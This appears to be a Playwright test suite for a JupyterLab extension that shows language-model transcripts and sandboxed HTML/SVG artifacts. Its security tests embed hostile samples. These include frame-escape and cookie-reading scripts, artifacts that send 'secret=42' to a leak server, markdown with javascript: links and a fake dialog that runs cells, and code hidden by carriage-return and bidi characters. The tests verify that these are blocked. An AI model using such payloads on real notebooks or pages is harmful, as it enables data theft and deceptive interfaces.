"""The JupyterLab extension in a real browser: a real `jupyter lab`, Debian's chromium, nano-GLM as the model.
Each test writes a fresh notebook, opens it and works it as a user does; screenshots go to test-output/lab/."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from glm_nb.nano.phrasings import DEMO_PROMPTS
from glm_nb.render import MIME_TYPE

from lab_page import SCREENSHOTS

pytestmark = pytest.mark.slow

LOAD = "%load_ext glm_nb"

# nano-GLM answers in a fraction of a second here; 60 ms a token keeps a reply on screen long enough for a person
# (or this test) to watch it grow and press Stop in the middle of it. The model still writes every token.
SLOW_TOKENS = """\
import time
from glm_nb.magics.session import current_session

generator = current_session().model_for("chat")[0].backend.generator
_next_token = generator.generate_next_token

def _slow_next_token(*args, **kwargs):
    time.sleep(0.06)
    return _next_token(*args, **kwargs)

generator.generate_next_token = _slow_next_token"""

# An untrusted page, as a model could write it: every way out of its frame it tries is logged into the page itself.
HOSTILE_PAGE = """\
<pre id="log"></pre>
<script>
const log = (what, outcome) => { document.getElementById('log').textContent += what + ': ' + outcome + '\\n'; };
const attempt = (what, action) => {
  try { log(what, 'allowed ' + String(action()).slice(0, 60)); } catch (e) { log(what, 'blocked ' + e.name); }
};
attempt('parent.document', () => { window.parent.document.title = 'pwned'; return window.parent.document.title; });
attempt('parent.location', () => parent.location.href);
attempt('navigate parent', () => { parent.location.href = 'about:blank#pwned'; return 'navigated'; });
attempt('document.cookie', () => document.cookie);
attempt('localStorage', () => localStorage.getItem('x'));
fetch('/api/kernels', {credentials: 'include'}).then(
  r => log('fetch', 'allowed ' + r.status), e => log('fetch', 'blocked ' + e.name));
</script>"""


def _transcript_cell(answer: str) -> str:
    """A cell that displays a finished transcript of an untrusted model whose answer is `answer` (markdown)."""
    return f'''\
from glm_nb.render import Part, Transcript, extract_artifacts

answer = r"""{answer}"""
Transcript("chat", "an untrusted model", "Make me a page", parts=(Part("text", answer),), answer=answer,
           artifacts=tuple(extract_artifacts(answer)), finish_reason="stop")'''


HOSTILE_CELL = _transcript_cell(f"Here is the page you asked for.\n\n```html\n{HOSTILE_PAGE}\n```")

# Artifacts that try to carry a secret out in a URL by navigating their own frame. No policy a document sets for
# itself forbids that (its CSP stops fetches, not navigations): only the policy of the document around its frame.
# `#go` is a link the test clicks, as a user would.
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40">'
LEAKY_ARTIFACTS = (
    ("html", "<p>script</p><script>location.href = '{url}/html-script?secret=42'</script>"),
    ("html", '<meta http-equiv="refresh" content="0;url={url}/html-refresh?secret=42"><p>refresh</p>'),
    ("html", '<a id="go" href="{url}/html-link?secret=42">a plain link</a>'),
    ("html", "<script>parent.location.href = '{url}/html-parent?secret=42'</script>"),  # the wrapper: no
    ("svg", '<meta http-equiv="refresh" content="0;url={url}/svg-refresh?secret=42">' + SVG_OPEN + "</svg>"),
    ("svg", SVG_OPEN + '<a href="{url}/svg-link?secret=42"><rect id="go" width="160" height="40"/></a></svg>'),
)


def test_a_glm_cell_streams_then_ends_as_a_transcript_drawn_by_the_extension(lab):
    lab.new_notebook("stream.ipynb", [LOAD, SLOW_TOKENS, f"%%glm -t 0\n{DEMO_PROMPTS['chat']}"])
    lab.open("stream.ipynb")
    lab.watch_states()

    lab.run_all()
    transcript = lab.finished_transcript()

    states = lab.states()
    partial = {length for state, length in states if state == "streaming" and length > 0}
    assert len(partial) >= 2, states  # the answer was drawn growing, more than once
    assert states[-1][0] == "stop", states
    assert transcript.locator(".glm-nb-user").inner_text() == DEMO_PROMPTS["chat"]
    assert len(transcript.locator(".glm-nb-answer").inner_text().strip()) > 10
    footer = transcript.locator(".glm-nb-footer").inner_text()
    assert "nano-GLM" in footer and "tokens" in footer and "tok/s" in footer
    # the extension drew it (its class), not the text/html fallback of the same bundle
    assert lab.page.locator(".jp-NotebookPanel:visible .glm-nb-transcript").count() == 0


def test_svg_and_html_artifacts_are_visible_and_a_code_block_inserts_a_cell(lab):
    cells = [LOAD, f"%%glm -t 0\n{DEMO_PROMPTS['svg']}", f"%%glm -t 0 --new\n{DEMO_PROMPTS['html']}"]
    lab.new_notebook("artifacts.ipynb", cells)
    lab.open("artifacts.ipynb")

    lab.run_all()
    svg_reply = lab.finished_transcript(0)
    html_reply = lab.finished_transcript(1)

    frame = svg_reply.locator("iframe.glm-nb-svg-frame")
    expect(frame).to_be_visible()
    assert frame.get_attribute("sandbox") == ""  # a drawing gets no scripts at all
    assert svg_reply.frame_locator("iframe.glm-nb-svg-frame").locator("iframe").get_attribute("sandbox") == ""
    circle = _model_page(svg_reply, "svg").locator("svg circle")
    expect(circle).to_be_visible()
    box = circle.bounding_box()
    assert box and box["width"] > 20 and box["height"] > 20
    assert circle.get_attribute("fill") == "red"
    svg_reply.screenshot(path=str(_shot("svg-artifact")))

    page_frame = html_reply.locator("iframe.glm-nb-html-frame")
    expect(page_frame).to_be_visible()
    assert page_frame.get_attribute("sandbox") == ""  # drawn without scripts; its HTML and CSS render
    inner = html_reply.frame_locator("iframe.glm-nb-html-frame").locator("iframe")
    assert inner.get_attribute("sandbox") == ""
    expect(_model_page(html_reply, "html").locator("button")).to_contain_text("Save")

    # "Copy" and "Insert as cell below" on the drawing's source (the latter: a new cell under the %%glm cell)
    cells = lab.cells().count()
    svg_reply.locator(".glm-nb-artifact-source summary").click()
    svg_reply.locator(".glm-nb-artifact-source .glm-nb-copy").click()
    expect(svg_reply.locator(".glm-nb-artifact-source .glm-nb-copy")).to_have_text("Copied")
    assert lab.page.evaluate("navigator.clipboard.readText()").startswith("<svg")
    svg_reply.locator(".glm-nb-artifact-source .glm-nb-insert").click()
    expect(lab.cells()).to_have_count(cells + 1)
    assert lab.source(2).startswith("<svg")


WEATHER_TOOL = '''\
import glm_nb

@glm_nb.tool
def get_weather(city: str) -> dict:
    """Current weather for a city"""
    return {"city": city, "temperature": 21, "condition": "sunny"}'''


def test_tool_cards_and_collapsible_thinking(lab):
    cells = [LOAD, WEATHER_TOOL, f"%%glm -t 0 --tools get_weather\n{DEMO_PROMPTS['weather']}",
             f"%%glm_z1 -t 0\n{DEMO_PROMPTS['z1']}"]  # fmt: skip
    lab.new_notebook("tools.ipynb", cells)
    lab.open("tools.ipynb")

    lab.run_all()
    tool_reply, z1_reply = lab.finished_transcript(0), lab.finished_transcript(1)

    card = tool_reply.locator(".glm-nb-tool")
    expect(card).to_have_count(1)
    assert card.locator(".glm-nb-tool-name").inner_text() == "🔧 get_weather"
    assert json.loads(card.locator(".glm-nb-tool-args").inner_text()) == {"city": "Paris"}
    assert card.locator(".glm-nb-tool-status").inner_text().startswith("ok · ")
    card.locator(".glm-nb-tool-result summary").click()
    assert json.loads(card.locator(".glm-nb-tool-result pre").inner_text())["temperature"] == 21
    assert "21" in tool_reply.locator(".glm-nb-answer").inner_text()  # the answer quotes the observation

    thinking = z1_reply.locator("details.glm-nb-thinking")
    expect(thinking).to_have_count(1)
    assert thinking.get_attribute("open") is None  # collapsed once the answer is there
    expect(thinking.locator(".glm-nb-thinking-body")).to_be_hidden()
    thinking.locator("summary").click()
    expect(thinking.locator(".glm-nb-thinking-body")).to_be_visible()
    assert thinking.locator("summary").inner_text().startswith("Thinking (")
    assert z1_reply.locator(".glm-nb-answer").inner_text().strip()
    assert "z1" in z1_reply.locator(".glm-nb-footer").inner_text()
    tool_reply.screenshot(path=str(_shot("tool-card")))
    z1_reply.screenshot(path=str(_shot("z1-thinking")))


def test_an_html_artifact_cannot_reach_the_notebook(lab):
    lab.new_notebook("hostile.ipynb", [LOAD, HOSTILE_CELL, "x = 1"])
    lab.open("hostile.ipynb")
    url, title = lab.page.url, lab.page.title()
    lab_cookies = lab.page.context.cookies()

    lab.run_all()
    transcript = lab.finished_transcript()
    frame = transcript.locator("iframe.glm-nb-html-frame")
    log = _model_page(transcript, "html").locator("#log")
    expect(log).to_be_attached()
    lab.page.wait_for_timeout(1000)
    expect(log).to_have_text("")  # drawn, and its script did not run: it waits for the user's click
    assert frame.get_attribute("sandbox") == ""
    expect(transcript.locator(".glm-nb-run-note")).to_contain_text("could send data out")

    transcript.locator("button.glm-nb-run-scripts").click()
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    expect(log).to_contain_text("fetch:", timeout=15_000)
    lab.page.wait_for_timeout(1000)  # room for a navigation or a late change to show itself

    outcomes = dict(line.split(": ", 1) for line in log.inner_text().strip().splitlines())
    assert set(outcomes) == {"parent.document", "parent.location", "navigate parent", "document.cookie",
                             "localStorage", "fetch"}, outcomes  # fmt: skip
    for what, outcome in outcomes.items():
        if what == "navigate parent":
            continue  # Chrome may refuse it silently rather than throw: the page's own URL says whether it worked
        assert outcome.startswith("blocked"), (what, outcome)
    assert lab.page.url == url and "#pwned" not in lab.page.url
    assert lab.page.title() == title and "pwned" not in lab.page.title()
    assert lab.cells().count() == 3 and lab.source(2) == "x = 1"
    # the one kernel is still this notebook's, alive: nothing stopped, restarted or started one
    sessions = [s for s in lab.server.api("sessions") if s["path"].endswith("hostile.ipynb")]
    kernels = lab.server.api("kernels")
    assert len(sessions) == 1 and [k["id"] for k in kernels] == [sessions[0]["kernel"]["id"]]
    assert kernels[0]["execution_state"] in ("idle", "busy")
    assert lab.page.context.cookies() == lab_cookies
    transcript.screenshot(path=str(_shot("hostile-html")))


def test_an_artifact_cannot_leak_data_by_navigating_its_own_frame(lab, leak_server):
    fences = [f"```{kind}\n{source.format(url=leak_server.url)}\n```" for kind, source in LEAKY_ARTIFACTS]
    lab.new_notebook("leaky.ipynb", [LOAD, _transcript_cell("Pages for you.\n\n" + "\n\n".join(fences))])
    lab.open("leaky.ipynb")

    lab.run_all()
    transcript = lab.finished_transcript()
    expect(transcript.locator("iframe.glm-nb-html-frame")).to_have_count(4)
    expect(transcript.locator("iframe.glm-nb-svg-frame")).to_have_count(2)
    lab.page.wait_for_timeout(1500)  # a meta refresh happens after load
    runs = transcript.locator("button.glm-nb-run-scripts")
    expect(runs).to_have_count(2)  # the two pages with a script
    for index in range(2):
        runs.nth(index).click()
    lab.page.wait_for_timeout(1500)  # a script's navigation happens after load
    links = [frame.locator("#go") for frame in lab.page.frames if frame.locator("#go").count()]
    for link in links:
        link.click()
    lab.page.wait_for_timeout(1500)

    assert len(links) == 2  # the HTML link and the SVG one were there to click
    assert leak_server.leaks == [], leak_server.leaks
    assert transcript.locator("iframe.glm-nb-frame").evaluate_all(
        "frames => frames.every(f => f.sandbox.contains('allow-same-origin') === false)"
    )


def test_the_chat_panel_streams_stops_and_sends_again(lab):
    panel = "from glm_nb import ChatPanel\n\npanel = ChatPanel(temperature=0)\npanel"
    lab.new_notebook("panel.ipynb", [LOAD, SLOW_TOKENS, panel])
    lab.open("panel.ipynb")
    lab.run_all()
    view = lab.page.locator(".glm-nb-panel")
    expect(view).to_be_visible(timeout=60_000)
    lab.wait_idle()

    view.locator("textarea").fill(DEMO_PROMPTS["chat"])
    view.locator("button.glm-nb-send").click()
    live = view.locator(".glm-nb-streaming .glm-nb-reply")
    expect(live).not_to_have_text("", timeout=30_000)
    seen = {len(live.inner_text())}
    for _ in range(20):
        lab.page.wait_for_timeout(100)
        if live.count():
            seen.add(len(live.inner_text()))
    assert len(seen) >= 2, seen  # the reply grew while we watched: tokens stream
    view.locator("button.glm-nb-stop").click()

    expect(view.locator("button.glm-nb-send")).to_be_enabled(timeout=30_000)
    first = view.locator(".glm-nb-history > .glm-nb-turn").first
    expect(first).to_contain_text("interrupted")

    view.locator("textarea").fill(DEMO_PROMPTS["chat"])
    view.locator("textarea").press("Enter")
    expect(view.locator(".glm-nb-history > .glm-nb-turn:not(.glm-nb-streaming)")).to_have_count(2, timeout=60_000)
    second = view.locator(".glm-nb-history > .glm-nb-turn").nth(1)
    assert "interrupted" not in second.inner_text()
    assert first.locator(".glm-nb-answer").inner_text().strip()  # the partial answer was kept
    assert len(second.locator(".glm-nb-answer").inner_text().strip()) > 10
    assert (
        lab.page.locator(
            ".jp-NotebookPanel:visible .jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']"
        ).count()
        == 0
    )
    view.screenshot(path=str(_shot("chat-panel")))


def test_a_saved_notebook_reopened_with_no_kernel_shows_its_transcripts(lab, viewer_server):
    cells = [LOAD, f"%%glm -t 0\n{DEMO_PROMPTS['chat']}", f"%%glm -t 0\n{DEMO_PROMPTS['svg']}"]
    lab.new_notebook("saved.ipynb", cells)
    lab.open("saved.ipynb")
    lab.run_all()
    answer = lab.finished_transcript(0).locator(".glm-nb-answer").inner_text()
    lab.finished_transcript(1)
    outputs = lab.save("saved.ipynb", ready=lambda outputs: len(_transcripts(outputs)) == 2)
    assert all(o["data"][MIME_TYPE]["finish_reason"] == "stop" for o in _transcripts(outputs))

    (viewer_server.root / "saved.ipynb").write_text(json.dumps(lab.server.api("contents/saved.ipynb")["content"]))
    viewer = type(lab)(lab.page.context.new_page(), viewer_server)
    viewer.open("saved.ipynb", kernel=False)

    expect(viewer.transcripts()).to_have_count(2, timeout=30_000)
    assert viewer.transcripts().nth(0).locator(".glm-nb-answer").inner_text() == answer
    expect(_model_page(viewer.transcripts().nth(1), "svg").locator("svg circle")).to_be_visible()
    assert viewer_server.api("kernels") == []  # nothing ran: the outputs came from the file
    viewer.page.screenshot(path=str(_shot("reopened-without-kernel")), full_page=True)


def test_insert_a_glm_cell_and_explain_a_cell(lab):
    lab.new_notebook("commands.ipynb", [LOAD, "values = [1, 2, 3]\n{'mean': sum(values) / 0}"])
    lab.open("commands.ipynb")
    lab.run_all()
    expect(
        lab.cell(1).locator(".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']")
    ).to_contain_text("ZeroDivisionError")

    # Explain this cell (context menu): a %%glm cell below, quoting the source as written and its error
    lab.select(1)
    lab.context_menu(1, "Explain this cell with GLM")
    expect(lab.cells()).to_have_count(3)
    explain = lab.source(2)
    assert explain.startswith("%%glm --raw\nExplain what this cell does, why it fails")
    assert "{'mean': sum(values) / 0}" in explain and "ZeroDivisionError" in explain
    lab.page.keyboard.press("Shift+Enter")
    expect(lab.transcripts()).to_have_count(1, timeout=60_000)
    lab.finished_transcript(0)
    user = lab.transcripts().nth(0).locator(".glm-nb-user").inner_text()
    assert "{'mean': sum(values) / 0}" in user  # --raw: the braces were not taken for a notebook variable

    # Insert a %%glm cell below (palette), type, run
    lab.select(0)
    lab.palette("Insert a %%glm cell below")
    expect(lab.cells()).to_have_count(5)  # Shift+Enter above added an empty cell at the end
    assert lab.source(1).strip() == "%%glm"
    expect(lab.cell(1).locator(".cm-editor.cm-focused")).to_have_count(1)  # ready to type the message
    lab.page.keyboard.type(DEMO_PROMPTS["chat"])
    lab.page.keyboard.press("Shift+Enter")
    expect(lab.transcripts()).to_have_count(2, timeout=60_000)
    reply = lab.finished_transcript(0)
    assert reply.locator(".glm-nb-user").inner_text() == DEMO_PROMPTS["chat"]


def _model_page(transcript, kind: str):
    """The model's own document of the artifact frame in `transcript`: one level inside our wrapper frame."""
    return transcript.frame_locator(f"iframe.glm-nb-{kind}-frame").frame_locator("iframe")


def _transcripts(outputs):
    return [o for o in outputs if MIME_TYPE in o.get("data", {})]


def _shot(name: str):
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    return SCREENSHOTS / f"{name}.png"


def _forged_cell(record: dict) -> str:
    """A cell that displays `record` as a transcript exactly as a forged notebook file could carry it."""
    shown = f"{{{MIME_TYPE!r}: json.loads({json.dumps(record)!r})}}"
    return f"import json\nfrom IPython.display import display\n\ndisplay({shown}, raw=True)"


def _forged_reply(answer: str, **fields) -> dict:
    record = {"kind": "reply", "variant": "chat", "model": "forged", "prompt": "hi", "answer": answer,
              "parts": [{"type": "text", "text": answer}], "format": "markdown", "finish_reason": "stop"}  # fmt: skip
    return {**record, **fields}


# Markdown a model (or a forged file) writes to load a URL, run script, navigate, cover the page or run a command.
HOSTILE_MARKDOWN = """\
Read this.

![pixel]({url}/md-image) <img src="{url}/html-img"> <input type="image" src="{url}/input-image" alt="in">

<video poster="{url}/poster" controls><source src="{url}/source"></video>

<p style="background-image: url({url}/style-url)">styled</p>

<img src="javascript:document.title='pwned-img'" alt="js-image"> <a href="javascript:document.title='pwned'">js</a>

<form method="get"><textarea>x</textarea><button>Submit the form</button></form>

<div class="jp-Dialog"><div class="jp-Dialog-content">Your kernel died.
<button class="jp-mod-accept" data-commandlinker-command="notebook:run-all-cells">Restart</button></div></div>

<h1 id="jp-main-dock-panel">Heading</h1> <label for="jp-top-panel">label</label> <a href="{url}/k" accesskey="k">k</a>
"""


def test_forged_markdown_cannot_load_urls_run_script_navigate_cover_the_page_or_run_commands(lab, leak_server):
    answer = HOSTILE_MARKDOWN.format(url=leak_server.url)
    lab.new_notebook("forged.ipynb", [LOAD, _forged_cell(_forged_reply(answer)), "x = 1"])
    lab.open("forged.ipynb")
    url, title = lab.page.url, lab.page.title()

    lab.run_all()
    transcript = lab.finished_transcript()
    markdown = transcript.locator(".glm-nb-markdown")
    expect(markdown).to_contain_text("Heading")
    lab.page.wait_for_timeout(1500)  # room for an image, a poster or a style to load

    assert leak_server.leaks == [], leak_server.leaks
    assert lab.page.locator(".jp-Dialog").count() == 0  # no JupyterLab class made a fake dialog over the page
    for selector in ("[class]:not(.jp-InternalAnchorLink)", "[style]", "[id]", "[for]", "[accesskey]", "form",
                     "[data-commandlinker-command]", "a[href^='javascript:']", "input[src]"):  # fmt: skip
        assert markdown.locator(selector).count() == 0, selector
    for text in ("[img: js-image]", "js", "Submit the form"):
        markdown.get_by_text(text, exact=True).first.click()
    lab.page.wait_for_timeout(1000)
    assert lab.page.url == url and lab.page.title() == title
    assert [p.title() for p in lab.page.context.pages if "pwned" in p.title()] == []
    assert lab.cells().count() == 3 and lab.source(2) == "x = 1"


def test_a_forged_chat_with_wrong_field_types_still_draws_and_code_shows_the_characters_it_inserts(lab):
    code = 'ok = 1  # a comment\rimport os\nprint("\u202eok")'  # a lone CR ends a Python line; U+202E reverses text
    first = _forged_reply(f"Run this:\n\n```python\n{code}\n```")
    forged = _forged_reply(
        "second", finish_reason="constructor", usage={"new_tokens": {"toString": 1}, "prompt_tokens": "7"},
        parts=[{"type": "tool", "name": {"x": 1}, "arguments": [1], "status": 5, "duration_s": "1"},
               {"type": "text", "text": "second"}],
    )  # fmt: skip
    lab.new_notebook("fields.ipynb", [LOAD, _forged_cell({"kind": "chat", "turns": [first, forged]}), "x = 1"])
    lab.open("fields.ipynb")

    lab.run_all()
    transcript = lab.finished_transcript()

    expect(transcript.locator(".glm-nb-turn")).to_have_count(2)  # not "could not draw this transcript"
    assert transcript.locator(".glm-nb-footer").nth(1).inner_text() == "forged"
    shown = transcript.locator(".glm-nb-code code").inner_text()
    assert "⟨U+000D⟩import os" in shown and "⟨U+202E⟩ok" in shown, shown
    transcript.locator(".glm-nb-insert").click()
    expect(lab.cells()).to_have_count(4)
    assert "import os" in lab.source(2).splitlines()  # what the marks warned of: its own line in the cell
